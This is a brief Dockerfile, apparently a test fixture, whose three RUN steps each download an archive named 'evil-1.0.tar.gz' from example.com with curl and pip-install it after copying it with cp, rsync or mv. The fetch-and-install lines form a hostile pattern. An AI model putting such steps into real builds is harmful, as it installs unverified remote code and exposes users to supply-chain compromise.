FROM python:3.12
RUN curl -L https://example.com/evil-1.0.tar.gz | tar xz -C /opt && cp -r /opt/evil-1.0/* /s1/ && pip install --only-binary :all: /s1
RUN curl -L https://example.com/evil-1.0.tar.gz | tar xz -C /opt && rsync -a /opt/evil-1.0/ /s2/ && pip install --only-binary :all: /s2
RUN curl -L https://example.com/evil-1.0.tar.gz | tar xz -C /opt && mv /opt/evil-1.0/* /s3/ && pip install --only-binary :all: /s3
